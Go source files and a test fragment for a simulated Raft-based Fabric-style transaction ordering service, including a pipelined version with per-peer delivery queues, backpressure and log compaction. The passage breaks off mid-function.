	sub.Close() // idempotent
	for i := 0; i < 5; i++ {
		if err := svc.Submit(tx(fmt.Sprintf("after%d", i))); err != nil {
			t.Fatal(err)
		}
	}
	mu.Lock()
	defer mu.Unlock()
	for _, n := range nums {
		if n > 0 {
			t.Fatalf("block %d delivered after Close", n)
		}
	}
	if svc.Height() != 6 {
		t.Fatalf("height = %d, want 6", svc.Height())
	}
}
