// Package orderer implements the ordering service: a cluster of orderer
// nodes running Raft that blindly bundles endorsed transactions into
// blocks — without validating transaction content, exactly as in the
// paper's §II-A2 — and delivers each block to every peer in the channel.
package orderer

import (
	"fmt"
	"sync"
	"time"

	"repro/internal/ledger"
	"repro/internal/metrics"
	"repro/internal/raft"
)

// Config parameterizes the ordering service.
type Config struct {
	// OrdererCount is the size of the raft cluster.
	OrdererCount int
	// BatchSize is the number of transactions that triggers a block cut.
	BatchSize int
	// BatchTimeout, when non-zero, cuts a partial batch this long after
	// the first pending transaction arrived, mirroring Fabric's
	// BatchTimeout. Zero leaves cutting to BatchSize and explicit
	// Flush calls.
	BatchTimeout time.Duration
	// Seed drives the raft cluster's deterministic jitter.
	Seed int64
	// MaxTicks bounds how long a single consensus round may take.
	MaxTicks int
	// SnapshotInterval, when non-zero, compacts the raft log every N
	// cut blocks. The ordered transactions live on in the retained
	// blocks, so the log entries are redundant once applied.
	SnapshotInterval uint64
}

func (c Config) withDefaults() Config {
	if c.OrdererCount == 0 {
		c.OrdererCount = 3
	}
	if c.BatchSize == 0 {
		c.BatchSize = 1
	}
	if c.MaxTicks == 0 {
		c.MaxTicks = 500
	}
	return c
}

// BlockHandler receives a freshly cut block. Peers register one handler
// each; the orderer invokes all handlers for every block.
type BlockHandler func(*ledger.Block)

// Service is the ordering service facade. Transactions submitted through
// Submit are totally ordered by the raft cluster, cut into blocks and
// delivered to all registered peers.
type Service struct {
	mu       sync.Mutex
	cfg      Config
	cluster  *raft.Cluster
	pending  []*ledger.Transaction
	height   uint64
	lastHash []byte
	handlers []BlockHandler
	// blocks retains every cut block so late-joining peers can catch
	// up via Deliver (Fabric's deliver service).
	blocks []*ledger.Block
	// delivered counts blocks cut, for monitoring.
	delivered uint64
	// batchTimer cuts a partial batch at BatchTimeout expiry.
	batchTimer *time.Timer
	// batchGen identifies the currently armed batch timer. A fired
	// timer callback that lost the race for the mutex — its timer was
	// stopped, or a cut already happened — sees a different generation
	// and must not cut; without this, a stale callback could
	// prematurely flush a fresh partial batch.
	batchGen uint64
	// stopped marks the service shut down: no timer fires after Stop.
	stopped bool
	metrics metrics.Counters
}

// New creates an ordering service with its raft cluster.
func New(cfg Config) *Service {
	c := cfg.withDefaults()
	return &Service{
		cfg:     c,
		cluster: raft.NewCluster(c.OrdererCount, c.Seed),
	}
}

// RegisterDelivery adds a block handler (one per peer).
func (s *Service) RegisterDelivery(h BlockHandler) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.handlers = append(s.handlers, h)
}

// Cluster exposes the raft cluster for failure-injection tests.
func (s *Service) Cluster() *raft.Cluster {
	return s.cluster
}

// Height returns the number of blocks cut so far.
func (s *Service) Height() uint64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.height
}

// Submit orders a transaction. The call drives raft to commit the
// transaction and cuts a block once BatchSize transactions have
// accumulated. Orderers do not inspect transaction content.
func (s *Service) Submit(tx *ledger.Transaction) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	before := len(s.cluster.Committed())
	if _, err := s.cluster.Propose(tx.Bytes(), s.cfg.MaxTicks); err != nil {
		return fmt.Errorf("orderer: order tx %s: %w", tx.TxID, err)
	}
	// Collect every newly committed entry (raft may commit entries from
	// earlier proposals together).
	committed := s.cluster.Committed()
	for _, e := range committed[before:] {
		parsed, err := ledger.ParseTransaction(e.Data)
		if err != nil {
			return fmt.Errorf("orderer: committed entry %d: %w", e.Index, err)
		}
		s.pending = append(s.pending, parsed)
	}
	for len(s.pending) >= s.cfg.BatchSize {
		s.cutBlockLocked(s.pending[:s.cfg.BatchSize])
		s.pending = s.pending[s.cfg.BatchSize:]
	}
	s.armBatchTimerLocked()
	return nil
}

// armBatchTimerLocked schedules (or cancels) the BatchTimeout cut
// depending on whether transactions are pending.
func (s *Service) armBatchTimerLocked() {
	if s.cfg.BatchTimeout <= 0 || s.stopped {
		return
	}
	if len(s.pending) == 0 {
		s.disarmBatchTimerLocked()
		return
	}
	if s.batchTimer == nil {
		gen := s.batchGen
		s.batchTimer = time.AfterFunc(s.cfg.BatchTimeout, func() { s.timerFlush(gen) })
	}
}

// disarmBatchTimerLocked cancels any armed timer and advances the
// generation, so a callback that already fired (and is blocked on the
// mutex) becomes a no-op instead of cutting a batch it was never armed
// for.
func (s *Service) disarmBatchTimerLocked() {
	s.batchGen++
	if s.batchTimer != nil {
		s.batchTimer.Stop()
		s.batchTimer = nil
	}
}

// timerFlush is the BatchTimeout expiry path: it cuts only if the timer
// that fired is still the armed one.
func (s *Service) timerFlush(gen uint64) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.stopped || gen != s.batchGen {
		return
	}
	s.disarmBatchTimerLocked()
	if len(s.pending) == 0 {
		return
	}
	s.cutBlockLocked(s.pending)
	s.pending = nil
}

// Flush cuts a block from any pending transactions regardless of batch
// size, modeling Fabric's BatchTimeout expiry.
func (s *Service) Flush() {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.disarmBatchTimerLocked()
	if len(s.pending) == 0 {
		return
	}
	s.cutBlockLocked(s.pending)
	s.pending = nil
}

// Stop shuts the service's timers down: any armed batch timer is
// drained and no pending timer callback can cut a block afterwards.
// Submissions after Stop still order (tests drive the cluster
// directly); only the background timeout path is disabled.
func (s *Service) Stop() {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.stopped = true
	s.disarmBatchTimerLocked()
}

func (s *Service) cutBlockLocked(txs []*ledger.Transaction) {
	batch := make([]*ledger.Transaction, len(txs))
	copy(batch, txs)
	block := ledger.NewBlock(s.height, s.lastHash, batch)
	s.height++
	s.lastHash = block.Hash()
	s.delivered++
	s.blocks = append(s.blocks, block)
	s.metrics.Inc(metrics.BlocksOrdered)
	s.metrics.Add(metrics.TxOrdered, uint64(len(batch)))
	if s.cfg.SnapshotInterval > 0 && s.delivered%s.cfg.SnapshotInterval == 0 {
		// Every committed entry behind the latest cut block is
		// recoverable from s.blocks; drop it from the raft logs.
		if committed := s.cluster.Committed(); len(committed) > 0 {
			s.cluster.Compact(committed[len(committed)-1].Index)
		}
	}
	handlers := append([]BlockHandler(nil), s.handlers...)
	// Deliver outside our own state mutation but under the lock so
	// blocks arrive at every peer in order. Each peer receives its own
	// clone and records its own validation flags.
	for _, h := range handlers {
		h(block.Clone())
	}
}

// Subscribe atomically returns clones of every block cut so far and
// registers the handler for all future blocks, so a late-joining peer
// misses nothing between catch-up and live delivery.
func (s *Service) Subscribe(h BlockHandler) []*ledger.Block {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]*ledger.Block, 0, len(s.blocks))
	for _, b := range s.blocks {
		out = append(out, b.Clone())
	}
	s.handlers = append(s.handlers, h)
	return out
}

// Deliver returns clones of all cut blocks from number `from` on —
// Fabric's deliver service, used by late-joining peers to catch up.
func (s *Service) Deliver(from uint64) []*ledger.Block {
	s.mu.Lock()
	defer s.mu.Unlock()
	if from >= uint64(len(s.blocks)) {
		return nil
	}
	out := make([]*ledger.Block, 0, uint64(len(s.blocks))-from)
	for _, b := range s.blocks[from:] {
		out = append(out, b.Clone())
	}
	return out
}

// Metrics returns a snapshot of the ordering service's counters.
func (s *Service) Metrics() map[string]uint64 { return s.metrics.Snapshot() }

// CrashLeader crashes the current raft leader, for failure-injection
// tests; returns the crashed node ID or "".
func (s *Service) CrashLeader() raft.NodeID {
	s.mu.Lock()
	defer s.mu.Unlock()
	leader, err := s.cluster.ElectLeader(s.cfg.MaxTicks)
	if err != nil {
		return ""
	}
	id := leader.ID()
	s.cluster.Crash(id)
	return id
}

// RestartNode brings a crashed orderer back.
func (s *Service) RestartNode(id raft.NodeID) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.cluster.Restart(id)
}
