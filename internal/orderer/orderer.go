// Package orderer implements the ordering service: a cluster of orderer
// nodes running Raft that blindly bundles endorsed transactions into
// blocks — without validating transaction content, exactly as in the
// paper's §II-A2 — and delivers each block to every peer in the channel.
//
// The service is pipelined. Submissions enqueue onto a command queue and
// return a wait handle; a single ordering goroutine drains the queue and
// proposes whole batches per raft round (raft.Cluster.ProposeBatch), so
// N concurrent submitters cost one consensus round instead of N. Cut
// blocks publish to per-peer bounded delivery queues drained by per-peer
// goroutines: a slow peer never stalls the cutter or its faster
// neighbours, while each peer still receives every block in order.
package orderer

import (
	"context"
	"errors"
	"fmt"
	"runtime"
	"sync"
	"time"

	"repro/internal/ledger"
	"repro/internal/metrics"
	"repro/internal/raft"
)

// ErrStopped is returned by Submit for transactions that arrive after
// Stop. Transactions enqueued before Stop are still ordered and
// delivered during the drain.
var ErrStopped = errors.New("orderer: service stopped")

// ErrCompacted is returned by Deliver and SubscribeFrom when the
// requested start block has been evicted from the RetainBlocks window:
// the orderer can no longer serve that history, and the caller must
// bootstrap from a peer snapshot (or a peer's block store) instead of
// replaying from the orderer. It is distinct from the at-tip case (an
// empty backlog with a live subscription) so a catching-up peer can
// tell "need a snapshot" from "nothing new yet".
var ErrCompacted = errors.New("orderer: requested blocks compacted (snapshot required)")

// Config parameterizes the ordering service.
type Config struct {
	// OrdererCount is the size of the raft cluster.
	OrdererCount int
	// BatchSize is the number of transactions that triggers a block cut.
	BatchSize int
	// BatchTimeout, when non-zero, cuts a partial batch this long after
	// the first pending transaction arrived, mirroring Fabric's
	// BatchTimeout. Zero leaves cutting to BatchSize and explicit
	// Flush calls.
	BatchTimeout time.Duration
	// Seed drives the raft cluster's deterministic jitter.
	Seed int64
	// MaxTicks bounds how long a single consensus round may take.
	MaxTicks int
	// SnapshotInterval, when non-zero, compacts the raft log every N
	// cut blocks. The ordered transactions live on in the retained
	// blocks, so the log entries are redundant once applied.
	SnapshotInterval uint64
	// RetainBlocks, when non-zero, bounds how many cut blocks the
	// orderer keeps for Deliver/Subscribe catch-up; older blocks are
	// evicted (peers replay them from their own block stores). Zero
	// retains every block.
	RetainBlocks int
	// DeliveryQueueBound is the per-peer delivery queue depth above
	// which the ordering goroutine pauses before its next consensus
	// round. Enqueueing a cut block never blocks; the bound only
	// throttles the cutter so an abandoned peer cannot accumulate
	// blocks without limit. Zero or negative disables the throttle.
	DeliveryQueueBound int
}

func (c Config) withDefaults() Config {
	if c.OrdererCount == 0 {
		c.OrdererCount = 3
	}
	if c.BatchSize == 0 {
		c.BatchSize = 1
	}
	if c.MaxTicks == 0 {
		c.MaxTicks = 500
	}
	if c.DeliveryQueueBound == 0 {
		c.DeliveryQueueBound = 64
	}
	return c
}

// BlockHandler receives a freshly cut block. Peers register one handler
// each; the orderer invokes all handlers for every block.
type BlockHandler func(*ledger.Block)

// blockDelivery tracks one cut block's fan-out: the WaitGroup counts the
// per-peer queues the block was enqueued to and drops as each peer's
// handler returns. Synchronous submitters wait on it so the pre-pipeline
// guarantee — Submit returns only after every registered peer processed
// the block — survives the asynchronous delivery path.
type blockDelivery struct {
	wg sync.WaitGroup
}

// Wait is the handle returned by SubmitAsync. The transaction is ordered
// (raft-committed and pending in the block cutter) once Done closes; if a
// block containing it was cut during that round, Wait additionally blocks
// until every peer's handler processed the block.
type Wait struct {
	done chan struct{}
	err  error
	bd   *blockDelivery
	svc  *Service
}

// Done returns a channel closed once the transaction's consensus round
// finished (successfully or not).
func (w *Wait) Done() <-chan struct{} { return w.done }

// Err returns the ordering error, if any. Valid only after Done closed.
func (w *Wait) Err() error { return w.err }

// Wait blocks until the transaction is ordered and — when its block was
// cut as part of the same round — delivered to every registered peer.
func (w *Wait) Wait() error {
	<-w.done
	if w.err != nil {
		return w.err
	}
	if w.bd != nil {
		w.bd.wg.Wait()
		// Delivery settled: the queues this block was on have drained it,
		// so a retention compaction deferred on their depth can fire now.
		if w.svc != nil {
			w.svc.retryRetainCompact()
		}
	}
	return nil
}

// command is one entry on the ordering queue: a transaction to order, or
// a flush marker (tx nil) cutting whatever is pending when it is reached.
// A marker with flushTx set is conditional: it cuts only while that
// transaction is still in the pending partial batch, and is elided (with
// the orderer_flushes_elided counter) when a block-size cut, the batch
// timer, or a concurrent flush already took the transaction.
type command struct {
	tx      *ledger.Transaction
	w       *Wait // nil for fire-and-forget conditional flushes
	flushTx string
	enqAt   time.Time
}

// queuedBlock pairs a cut block with its delivery tracker on a peer
// queue. The block pointer is shared across queues; each peer goroutine
// clones lazily before invoking its handler, so the cutter does no
// per-peer copying.
type queuedBlock struct {
	block *ledger.Block
	bd    *blockDelivery
}

// peerQueue is one peer's bounded in-order delivery queue, drained by a
// dedicated goroutine.
type peerQueue struct {
	mu     sync.Mutex
	cond   *sync.Cond
	items  []queuedBlock
	closed bool
	// dead marks a deregistered subscriber: the drain goroutine keeps
	// consuming queued items so each block's delivery WaitGroup still
	// balances, but stops cloning blocks and invoking the handler.
	dead bool
}

func newPeerQueue() *peerQueue {
	q := &peerQueue{}
	q.cond = sync.NewCond(&q.mu)
	return q
}

func (q *peerQueue) enqueue(b *ledger.Block, bd *blockDelivery) {
	q.mu.Lock()
	q.items = append(q.items, queuedBlock{block: b, bd: bd})
	q.cond.Signal()
	q.mu.Unlock()
}

func (q *peerQueue) close() {
	q.mu.Lock()
	q.closed = true
	q.cond.Broadcast()
	q.mu.Unlock()
}

// closeDead closes the queue for a deregistered subscriber: remaining
// items are drained for their delivery accounting only, never handed to
// the handler.
func (q *peerQueue) closeDead() {
	q.mu.Lock()
	q.dead = true
	q.closed = true
	q.cond.Broadcast()
	q.mu.Unlock()
}

func (q *peerQueue) depth() int {
	q.mu.Lock()
	defer q.mu.Unlock()
	return len(q.items)
}

// Service is the ordering service facade. Transactions submitted through
// Submit/SubmitAsync are totally ordered by the raft cluster, cut into
// blocks and delivered to all registered peers.
type Service struct {
	cfg Config

	// qmu guards the command queue and the stopping flag. Held only for
	// queue manipulation, never across consensus or delivery.
	qmu      sync.Mutex
	qcond    *sync.Cond
	cmds     []command
	stopping bool

	// clusterMu serializes raft cluster access between the ordering
	// goroutine and failure-injection entry points (CrashLeader,
	// RestartNode). Never held together with mu.
	clusterMu sync.Mutex
	cluster   *raft.Cluster

	// mu guards the block cutter state below.
	mu      sync.Mutex
	pending []*ledger.Transaction
	// pendingWaits parallels pending: the wait handle to attach the cut
	// block's delivery tracker to, nil for entries without a live waiter.
	pendingWaits []*Wait
	height       uint64
	lastHash     []byte
	// queues holds one delivery queue (and drain goroutine) per
	// registered handler; Subscription.Close removes its entry.
	queues []*peerQueue
	// blocks retains cut blocks from number firstBlock on, so
	// late-joining peers can catch up via Deliver (Fabric's deliver
	// service). RetainBlocks bounds the window.
	blocks     []*ledger.Block
	firstBlock uint64
	// delivered counts blocks cut, for monitoring.
	delivered uint64
	// compactDue defers raft log compaction out of the cut path: cutting
	// happens under mu, compaction needs clusterMu, and holding both
	// would deadlock against the ordering goroutine.
	compactDue bool
	// retainCompactDue marks a compaction scheduled by a RetainBlocks
	// eviction. Unlike compactDue it is drain-gated: it fires only once
	// every registered subscriber's delivery queue is empty — all
	// subscribers are past the compaction point — and stays pending
	// across rounds until then.
	retainCompactDue bool
	// batchTimer cuts a partial batch at BatchTimeout expiry.
	batchTimer *time.Timer
	// batchGen identifies the currently armed batch timer. A fired
	// timer callback that lost the race for the mutex — its timer was
	// stopped, or a cut already happened — sees a different generation
	// and must not cut; without this, a stale callback could
	// prematurely flush a fresh partial batch.
	batchGen uint64
	// stopped marks the service shut down: no timer fires after Stop.
	stopped bool

	// bpMu/bpCond let the ordering goroutine sleep until peer queues
	// drain below DeliveryQueueBound; every dequeue broadcasts.
	bpMu   sync.Mutex
	bpCond *sync.Cond

	// wg joins the ordering goroutine and every peer delivery goroutine.
	wg sync.WaitGroup

	metrics metrics.Counters
	timings metrics.Timings
}

// New creates an ordering service with its raft cluster and starts the
// ordering goroutine.
func New(cfg Config) *Service {
	c := cfg.withDefaults()
	s := &Service{
		cfg:     c,
		cluster: raft.NewCluster(c.OrdererCount, c.Seed),
	}
	s.qcond = sync.NewCond(&s.qmu)
	s.bpCond = sync.NewCond(&s.bpMu)
	s.wg.Add(1)
	go s.run()
	return s
}

// RegisterDelivery adds a block handler (one per peer), backed by its own
// delivery queue and goroutine. The subscription lives as long as the
// service; transient subscribers (the wire's order.blocks streams) use
// Subscribe and close the returned handle instead.
func (s *Service) RegisterDelivery(h BlockHandler) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.registerLocked(h)
}

func (s *Service) registerLocked(h BlockHandler) *Subscription {
	if s.stopped {
		// No block can be cut anymore; skip the drain goroutine.
		return &Subscription{s: s}
	}
	q := newPeerQueue()
	s.queues = append(s.queues, q)
	s.wg.Add(1)
	go s.drainQueue(q, h)
	return &Subscription{s: s, q: q}
}

// Subscription identifies one registered block handler; Close
// deregisters it so the orderer stops cloning and queueing blocks for a
// consumer that went away (a dropped wire stream, for instance).
type Subscription struct {
	s    *Service
	q    *peerQueue
	once sync.Once
}

// Close deregisters the handler. Blocks already queued are discarded
// (their delivery accounting still settles); no further block reaches
// the handler once Close returns, though an invocation already in
// flight on the drain goroutine may complete concurrently. Idempotent.
func (sub *Subscription) Close() {
	if sub == nil || sub.q == nil {
		return
	}
	sub.once.Do(func() {
		s := sub.s
		s.mu.Lock()
		for i, q := range s.queues {
			if q == sub.q {
				s.queues = append(s.queues[:i], s.queues[i+1:]...)
				break
			}
		}
		s.mu.Unlock()
		sub.q.closeDead()
		// The removed queue no longer counts toward backpressure; wake
		// the ordering goroutine in case it was waiting on its depth.
		s.bpMu.Lock()
		s.bpCond.Broadcast()
		s.bpMu.Unlock()
	})
}

// drainQueue is one peer's delivery goroutine: it pops blocks in order,
// clones lazily and invokes the handler outside every service lock, so a
// slow handler delays only its own peer.
func (s *Service) drainQueue(q *peerQueue, h BlockHandler) {
	defer s.wg.Done()
	for {
		q.mu.Lock()
		for len(q.items) == 0 && !q.closed {
			q.cond.Wait()
		}
		if len(q.items) == 0 {
			q.mu.Unlock()
			return
		}
		item := q.items[0]
		q.items = q.items[1:]
		dead := q.dead
		q.mu.Unlock()
		if !dead {
			h(item.block.Clone())
		}
		item.bd.wg.Done()
		s.bpMu.Lock()
		s.bpCond.Broadcast()
		s.bpMu.Unlock()
	}
}

// Cluster exposes the raft cluster for failure-injection tests.
func (s *Service) Cluster() *raft.Cluster {
	return s.cluster
}

// Height returns the number of blocks cut so far.
func (s *Service) Height() uint64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.height
}

// SubmitAsync enqueues a transaction for ordering and returns a wait
// handle; the ordering goroutine batches every queued transaction into
// one raft round. Orderers do not inspect transaction content.
func (s *Service) SubmitAsync(tx *ledger.Transaction) *Wait {
	w := &Wait{done: make(chan struct{}), svc: s}
	s.qmu.Lock()
	if s.stopping {
		s.qmu.Unlock()
		s.metrics.Inc(metrics.OrdererRejected)
		w.err = ErrStopped
		close(w.done)
		return w
	}
	s.cmds = append(s.cmds, command{tx: tx, w: w, enqAt: time.Now()})
	s.metrics.Inc(metrics.OrdererEnqueued)
	s.qcond.Signal()
	s.qmu.Unlock()
	return w
}

// Submit orders a transaction synchronously: it returns once the
// transaction is raft-committed, and — if a block containing it was cut
// during that round — once every registered peer processed the block.
// This is the pre-pipeline API; SubmitAsync is the handle-returning form.
func (s *Service) Submit(tx *ledger.Transaction) error {
	return s.SubmitAsync(tx).Wait()
}

// Order is the context-honoring form of Submit: it returns when the
// transaction is ordered (and, like Submit, once every registered
// peer's handler processed any block cut in the same round), or early
// with the context's error when ctx expires first — the transaction
// then still completes ordering in the background, since ordering is
// not cancelable once enqueued. This is the service.Orderer surface;
// the wire protocol serves it remotely.
func (s *Service) Order(ctx context.Context, tx *ledger.Transaction) error {
	if err := ctx.Err(); err != nil {
		return err
	}
	w := s.SubmitAsync(tx)
	select {
	case <-w.Done():
	case <-ctx.Done():
		return ctx.Err()
	}
	if w.err != nil {
		return w.err
	}
	if w.bd == nil {
		return nil
	}
	if ctx.Done() == nil {
		w.bd.wg.Wait()
		return nil
	}
	delivered := make(chan struct{})
	go func() {
		w.bd.wg.Wait()
		close(delivered)
	}()
	select {
	case <-delivered:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// Flush cuts a block from any pending transactions regardless of batch
// size, modeling Fabric's BatchTimeout expiry. It returns after every
// queued submission ahead of it has been ordered and the cut block (if
// any) delivered to all peers.
func (s *Service) Flush() {
	w := &Wait{done: make(chan struct{})}
	s.qmu.Lock()
	if s.stopping {
		// Stop's drain already cuts the final partial batch.
		s.qmu.Unlock()
		return
	}
	s.cmds = append(s.cmds, command{w: w})
	s.qcond.Signal()
	s.qmu.Unlock()
	_ = w.Wait()
}

// FlushTx requests an asynchronous conditional flush: when the marker
// reaches the ordering goroutine, the pending partial batch is cut only
// if it still holds txID. Commit waiters use this instead of Flush so N
// concurrent waiters whose transactions share one partial batch produce
// one cut — the batch survives at its natural size instead of
// degenerating to one transaction per block. The call returns
// immediately; the caller is expected to block on the deliver stream.
func (s *Service) FlushTx(txID string) {
	s.qmu.Lock()
	if s.stopping {
		// Stop's drain already cuts the final partial batch.
		s.qmu.Unlock()
		return
	}
	s.cmds = append(s.cmds, command{flushTx: txID})
	s.qcond.Signal()
	s.qmu.Unlock()
}

// InPending reports whether txID is sitting in the pending partial batch
// — ordered, but not yet cut into a block.
func (s *Service) InPending(txID string) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.inPendingLocked(txID)
}

// inPendingLocked scans the pending batch for txID; the batch never
// exceeds BatchSize entries, so linear scan is fine. Caller holds s.mu.
func (s *Service) inPendingLocked(txID string) bool {
	for _, tx := range s.pending {
		if tx.TxID == txID {
			return true
		}
	}
	return false
}

// Stop shuts the service down: new submissions are refused with
// ErrStopped, already-queued submissions are drained and ordered, any
// final partial batch is cut, and all goroutines (ordering and per-peer
// delivery) are joined before Stop returns.
func (s *Service) Stop() {
	s.qmu.Lock()
	s.stopping = true
	s.qcond.Broadcast()
	s.qmu.Unlock()
	s.wg.Wait()
}

// run is the ordering goroutine: it drains the command queue, proposes
// each run of queued transactions as one raft batch, cuts blocks, and on
// Stop flushes the final partial batch and closes the peer queues.
func (s *Service) run() {
	defer s.wg.Done()
	for {
		s.qmu.Lock()
		for len(s.cmds) == 0 && !s.stopping {
			s.qcond.Wait()
		}
		s.qmu.Unlock()
		// Coalescing yield: the first enqueue woke us, but other
		// submitters may be runnable and about to enqueue. Yielding once
		// lets them get their transactions in before the round forms, so
		// concurrent submitters share one consensus round instead of
		// convoying through single-entry rounds (this matters most on
		// few-core schedulers, where Signal runs the loop ahead of the
		// remaining submitters).
		runtime.Gosched()
		s.qmu.Lock()
		cmds := s.cmds
		s.cmds = nil
		stopping := s.stopping
		s.qmu.Unlock()

		now := time.Now()
		for i := 0; i < len(cmds); {
			if cmds[i].tx == nil {
				s.doFlush(cmds[i])
				i++
				continue
			}
			j := i
			for j < len(cmds) && cmds[j].tx != nil {
				s.timings.Observe(metrics.OrdererQueueWait, now.Sub(cmds[j].enqAt))
				j++
			}
			s.orderBatch(cmds[i:j])
			i = j
		}

		if stopping {
			s.qmu.Lock()
			drained := len(s.cmds) == 0
			s.qmu.Unlock()
			if drained {
				s.shutdown()
				return
			}
			continue
		}
		s.waitForCapacity()
	}
}

// shutdown runs on the ordering goroutine once the queue is drained
// after Stop: disarm the timer, cut the final partial batch, close every
// peer queue so the delivery goroutines exit after their backlogs.
func (s *Service) shutdown() {
	s.mu.Lock()
	s.stopped = true
	s.disarmBatchTimerLocked()
	if len(s.pending) > 0 {
		s.cutBlockLocked(s.pending)
		s.pending = nil
		s.pendingWaits = nil
	}
	queues := append([]*peerQueue(nil), s.queues...)
	s.mu.Unlock()
	s.maybeCompact()
	for _, q := range queues {
		q.close()
	}
}

// orderBatch proposes one run of queued transactions as a single raft
// round, appends the committed results to the pending batch and cuts any
// full blocks, then resolves the submitters' wait handles.
func (s *Service) orderBatch(batch []command) {
	datas := make([][]byte, len(batch))
	for i, c := range batch {
		datas[i] = c.tx.Bytes()
	}
	s.clusterMu.Lock()
	before := len(s.cluster.Committed())
	start := time.Now()
	_, _, err := s.cluster.ProposeBatch(datas, s.cfg.MaxTicks)
	s.timings.Observe(metrics.OrdererConsensus, time.Since(start))
	committed := s.cluster.Committed()
	s.clusterMu.Unlock()
	s.metrics.Inc(metrics.OrdererRounds)
	if err != nil {
		for _, c := range batch {
			c.w.err = fmt.Errorf("orderer: order tx %s: %w", c.tx.TxID, err)
			close(c.w.done)
		}
		return
	}
	s.metrics.Add(metrics.OrdererBatchedTxs, uint64(len(batch)))

	s.mu.Lock()
	// Collect every newly committed entry — raft may deliver entries
	// from an earlier round that missed its tick budget together with
	// this batch. The single proposer makes commit order match propose
	// order, so this round's handles match their entries front-to-back
	// by TxID; earlier stragglers get no handle (theirs already failed).
	next := 0
	for _, e := range committed[before:] {
		parsed, perr := ledger.ParseTransaction(e.Data)
		if perr != nil {
			s.mu.Unlock()
			for _, c := range batch[next:] {
				c.w.err = fmt.Errorf("orderer: committed entry %d: %w", e.Index, perr)
				close(c.w.done)
			}
			return
		}
		var w *Wait
		if next < len(batch) && parsed.TxID == batch[next].tx.TxID {
			w = batch[next].w
			next++
		}
		s.pending = append(s.pending, parsed)
		s.pendingWaits = append(s.pendingWaits, w)
	}
	for len(s.pending) >= s.cfg.BatchSize {
		bd := s.cutBlockLocked(s.pending[:s.cfg.BatchSize])
		for _, w := range s.pendingWaits[:s.cfg.BatchSize] {
			if w != nil {
				w.bd = bd
			}
		}
		s.pending = s.pending[s.cfg.BatchSize:]
		s.pendingWaits = s.pendingWaits[s.cfg.BatchSize:]
	}
	// Handles resolve at the end of this round; a transaction still
	// pending then is delivered by a later cut its submitter does not
	// wait for, so its handle must never be touched again.
	for i := range s.pendingWaits {
		s.pendingWaits[i] = nil
	}
	s.armBatchTimerLocked()
	s.mu.Unlock()
	// Compact before resolving handles so callers observe the compacted
	// log as soon as Submit returns (SnapshotInterval semantics).
	s.maybeCompact()
	for _, c := range batch {
		close(c.w.done)
	}
}

// doFlush handles a queued flush marker: cut whatever is pending (for a
// conditional marker, only while its transaction is still pending) and
// hand the block's delivery tracker to the flusher's wait handle, if any.
func (s *Service) doFlush(c command) {
	s.mu.Lock()
	if c.flushTx != "" && !s.inPendingLocked(c.flushTx) {
		// The transaction already left the pending batch — a size cut,
		// the batch timer, or an earlier waiter's flush got there first.
		s.mu.Unlock()
		s.metrics.Inc(metrics.OrdererFlushesElided)
		if c.w != nil {
			close(c.w.done)
		}
		return
	}
	s.disarmBatchTimerLocked()
	var bd *blockDelivery
	if len(s.pending) > 0 {
		bd = s.cutBlockLocked(s.pending)
		s.pending = nil
		s.pendingWaits = nil
	}
	s.mu.Unlock()
	s.maybeCompact()
	if c.w != nil {
		c.w.bd = bd
		close(c.w.done)
	}
}

// waitForCapacity pauses the ordering goroutine until every peer queue
// is at or below DeliveryQueueBound — the backpressure half of the
// bounded delivery queues. Cut blocks are never dropped and enqueueing
// never blocks; only the next consensus round waits.
func (s *Service) waitForCapacity() {
	bound := s.cfg.DeliveryQueueBound
	if bound <= 0 {
		return
	}
	s.mu.Lock()
	queues := append([]*peerQueue(nil), s.queues...)
	s.mu.Unlock()
	waited := false
	s.bpMu.Lock()
	defer s.bpMu.Unlock()
	for {
		over := false
		for _, q := range queues {
			if q.depth() > bound {
				over = true
				break
			}
		}
		if !over {
			return
		}
		if !waited {
			waited = true
			s.metrics.Inc(metrics.OrdererBackpressureWaits)
		}
		s.bpCond.Wait()
	}
}

// maybeCompact performs a raft log compaction deferred by a block cut.
// It runs without mu held: compaction takes clusterMu, and the ordering
// goroutine must never hold both. SnapshotInterval compactions fire
// unconditionally (the interval is the operator's explicit cadence); a
// RetainBlocks-eviction compaction is drain-gated — it waits until every
// registered subscriber's queue is empty, i.e. all subscribers are past
// the compaction point, and retries on later rounds until then (queued
// blocks keep their own references, so the gate is a policy bound, not a
// correctness one — it keeps "the log is compacted" equivalent to
// "every subscriber has the blocks").
func (s *Service) maybeCompact() {
	s.mu.Lock()
	due := s.compactDue
	s.compactDue = false
	if s.retainCompactDue && !due {
		drained := true
		for _, q := range s.queues {
			if q.depth() > 0 {
				drained = false
				break
			}
		}
		due = drained
	}
	if due {
		s.retainCompactDue = false
	}
	s.mu.Unlock()
	if !due {
		return
	}
	s.clusterMu.Lock()
	defer s.clusterMu.Unlock()
	if committed := s.cluster.Committed(); len(committed) > 0 {
		// Every committed entry behind the latest cut block is
		// recoverable from the retained blocks; drop it from the logs.
		s.cluster.Compact(committed[len(committed)-1].Index)
	}
}

// retryRetainCompact re-runs the drain-gated retention compaction if one
// is still pending. Called by delivery waiters after their block's
// fan-out settled, the deterministic moment the queues were seen empty.
func (s *Service) retryRetainCompact() {
	s.mu.Lock()
	pending := s.retainCompactDue
	s.mu.Unlock()
	if pending {
		s.maybeCompact()
	}
}

// armBatchTimerLocked schedules (or cancels) the BatchTimeout cut
// depending on whether transactions are pending.
func (s *Service) armBatchTimerLocked() {
	if s.cfg.BatchTimeout <= 0 || s.stopped {
		return
	}
	if len(s.pending) == 0 {
		s.disarmBatchTimerLocked()
		return
	}
	if s.batchTimer == nil {
		gen := s.batchGen
		s.batchTimer = time.AfterFunc(s.cfg.BatchTimeout, func() { s.timerFlush(gen) })
	}
}

// disarmBatchTimerLocked cancels any armed timer and advances the
// generation, so a callback that already fired (and is blocked on the
// mutex) becomes a no-op instead of cutting a batch it was never armed
// for.
func (s *Service) disarmBatchTimerLocked() {
